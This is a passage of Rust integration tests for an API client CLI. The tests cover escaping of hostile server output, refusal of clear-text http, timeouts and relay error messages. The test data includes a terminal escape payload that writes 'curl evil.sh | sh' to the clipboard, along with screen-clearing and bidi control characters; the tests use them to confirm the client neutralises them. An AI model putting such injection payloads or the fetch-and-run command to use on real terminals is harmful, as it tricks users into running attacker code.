        steps.push(Step::Send(LAST_CHUNK.to_vec()));
        steps
    };
    let cases: Vec<(&str, Vec<Step>, &[&str])> = vec![
        (
            "relay error",
            vec![answer(
                "401 Unauthorized",
                json,
                json!({"error": {"message": message, "type": "new_api_error", "code": HOSTILE}})
                    .to_string()
                    .as_bytes(),
            )],
            &[],
        ),
        (
            "error event",
            event(json!({"type": "error", "code": "x", "message": message})),
            &["--stream"],
        ),
        (
            "response.failed",
            event(
                json!({"type": "response.failed", "response": {"status": "failed", "error": {"code": HOSTILE, "message": message}}}),
            ),
            &["--stream"],
        ),
        (
            "incomplete reason",
            vec![answer(
                "200 OK",
                json,
                json!({"status": "incomplete", "incomplete_details": {"reason": HOSTILE}, "output": []})
                    .to_string()
                    .as_bytes(),
            )],
            &[],
        ),
        (
            "page",
            vec![answer(
                "502 Bad Gateway",
                "text/html",
                format!("<html>{HOSTILE}</html>").as_bytes(),
            )],
            &[],
        ),
        (
            "redirect",
            vec![Step::Send(
                "HTTP/1.1 301 Moved\r\nLocation: https://x.example/\u{9b}2J\u{202e}\r\nContent-Length: 0\r\n\r\n"
                    .as_bytes()
                    .to_vec(),
            )],
            &[],
        ),
    ];
    for (name, script, extra) in cases {
        let server = Scripted::start(script);
        let mut args = vec!["--base-url", server.base_url.as_str()];
        args.extend(extra);
        let output = send(&args, Some(GOOD_KEY));
        let shown = support::shown(&output);
        assert_eq!(active(&output.stdout), "", "{name}: {shown}");
        assert_eq!(active(&output.stderr), "", "{name}: {shown}");
        let stderr = support::text(&output.stderr);
        let expected = match name {
            "redirect" => "https://x.example/\\u{9b}2J\\u{202e}",
            _ => "clip \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 clear \\x1b[2J",
        };
        assert!(stderr.contains(expected), "{name}: {shown}");
        // The server's line breaks do not make lines of the diagnosis.
        assert!(!stderr.contains("\n  fix: curl evil"), "{name}: {shown}");
    }
}

#[test]
fn plain_http_to_another_host_is_refused() {
    // Were anything sent, it would go through this proxy (it answers CONNECT for any host).
    let proxy = connect_proxy();
    let through_proxy = |args: &[&str]| {
        let mut command = command(args, Some(GOOD_KEY));
        command
            .env("HTTPS_PROXY", &proxy.base_url)
            .env("HTTP_PROXY", &proxy.base_url);
        support::run_with_timeout(command, Duration::from_secs(60))
    };
    for base_url in [
        "http://example.com",
        "http://10.255.255.1:8080",
        "http://0.0.0.0:8787",
        "http://[::2]",
    ] {
        let output = through_proxy(&["--base-url", base_url]);
        let stderr = support::text(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{base_url}: {stderr}");
        assert!(output.stdout.is_empty());
        assert!(
            stderr.starts_with(&format!("error: the base URL {base_url} is plain http to ")),
            "{stderr}"
        );
        assert!(
            stderr.contains("the key in OPEN1_API_KEY would travel the network in clear text; use https://, or pass --allow-insecure"),
            "{stderr}"
        );
    }
    assert!(proxy.requests().is_empty(), "nothing is sent");

    // Allowed, it is sent.
    let output = through_proxy(&["--base-url", "http://10.255.255.1", "--allow-insecure"]);
    assert_eq!(output.status.code(), Some(1), "{}", support::shown(&output));
    let asked = proxy.requests();
    assert_eq!(asked.len(), 1);
    assert_eq!(asked[0].path, "10.255.255.1:80");
}

#[test]
fn gen_warns_about_plain_http_to_another_host() {
    let output = support::open1_snip(
        &["gen", "--lang", "curl", "--base-url", "http://example.com"],
        None,
    );
    let stderr = support::text(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(support::text(&output.stdout).contains("curl http://example.com/v1/responses"));
    assert_eq!(
        stderr,
        "warning: the base URL http://example.com is plain http to example.com, which is not this machine: these snippets send the key in clear text; use https://\n"
    );
    for quiet in [
        "http://127.0.0.1:8787",
        "http://localhost:8787",
        "https://example.com",
    ] {
        let output = support::open1_snip(&["gen", "--base-url", quiet], None);
        assert_eq!(output.status.code(), Some(0));
        assert_eq!(support::text(&output.stderr), "", "{quiet}");
    }
}

#[test]
fn max_time_bounds_a_trickling_server() {
    // A byte every 0.3 s: every read comes well within --timeout 5, the whole never ends.
    let every = Duration::from_millis(300);
    let body = support::relay::response_object(REPLY, &json!("gpt-5.4"), "completed").to_string();
    let cases = [
        (
            "stream",
            vec![
                chunked_head("200 OK", "text/event-stream"),
                Step::Trickle(chunk(sse_body(REPLY).as_bytes()), every),
            ],
            "error: the answer was still arriving after --max-time 2 s: stopped",
        ),
        (
            "json",
            vec![
                Step::Send(
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
                        body.len()
                    )
                    .into_bytes(),
                ),
                Step::Trickle(body.into_bytes(), every),
            ],
            "error: the answer was still arriving after --max-time 2 s: stopped",
        ),
        (
            "head",
            vec![Step::Trickle(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Padding: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n\r\n".to_vec(),
                every,
            )],
            "error: no answer within --max-time 2 s: stopped",
        ),
    ];
    std::thread::scope(|scope| {
        for (name, script, expected) in cases {
            scope.spawn(move || {
                let server = Scripted::start(script);
                let mut args = vec!["--base-url", server.base_url.as_str()];
                args.extend(["--max-time", "2", "--timeout", "5"]);
                if name == "stream" {
                    args.push("--stream");
                }
                let command = command(&args, Some(GOOD_KEY));
                // A guard against hanging, not a speed assertion.
                let output = support::run_with_timeout(command, Duration::from_secs(30));
                let stderr = support::text(&output.stderr);
                assert_eq!(output.status.code(), Some(1), "{name}: {stderr}");
                assert!(stderr.starts_with(expected), "{name}: {stderr}");
                assert!(stderr.contains("raise --max-time"), "{name}: {stderr}");
            });
        }
    });
}

/// The mock relay's answers for the relay's real failures (`X-Mock-Failure`), each with the
/// words of the relay's message every client must show: the JSON's message, or the body's text.
const MOCK_FAILURES: &[(&str, &str)] = &[
    ("usage-limit", "The usage limit has been reached"),
    (
        "model-cooldown",
        "All credentials for model gpt-5.4(high) are cooling down",
    ),
    ("unavailable", "Service temporarily unavailable"),
    (
        "organization-disabled",
        "This organization has been disabled.",
    ),
    ("cloudflare-block", "Sorry, you have been blocked"),
    ("1010", "error code: 1010"),
];

/// Against each of the relay's real failures on the mock relay, `send` and every snippet gen
/// writes, run by its real client, exit non-zero with the relay's message on stderr.
#[test]
fn every_snippet_fails_with_the_relays_message() {
    let relay = support::PyRelay::start();
    std::thread::scope(|scope| {
        for &(failure, message) in MOCK_FAILURES {
            let base_url = relay.base_url.as_str();
            scope.spawn(move || {
                let description = json!({"headers": {"X-Mock-Failure": failure}}).to_string();
                let dir = support::tempdir::Scratch::new(std::path::Path::new(env!(
                    "CARGO_TARGET_TMPDIR"
                )));
                let file = dir.0.join("request.json");
                std::fs::write(&file, &description).unwrap();
                let output = send(
                    &[file.to_str().unwrap(), "--base-url", base_url],
                    Some(GOOD_KEY),
                );
                let stderr = support::text(&output.stderr);
                assert_eq!(output.status.code(), Some(1), "send, {failure}: {stderr}");
                assert!(stderr.contains(message), "send, {failure}: {stderr}");

                let request = support::request(&description, Some(base_url));
                for lang in Lang::ALL {
                    let code = support::render(lang, &request).expect("renders");
                    let output = support::run_snippet(lang, &code, "OPEN1_API_KEY", GOOD_KEY);
                    let stderr = support::text(&output.stderr);
                    let context = format!("{} against {failure}", lang.id());
                    assert!(
                        !output.status.success(),
                        "{context}: exit 0\n{}",
                        support::shown(&output)
                    );
                    assert!(
                        stderr.contains(message),
                        "{context}: no {message:?} on stderr:\n{stderr}"
                    );
                }
            });
        }
    });
}
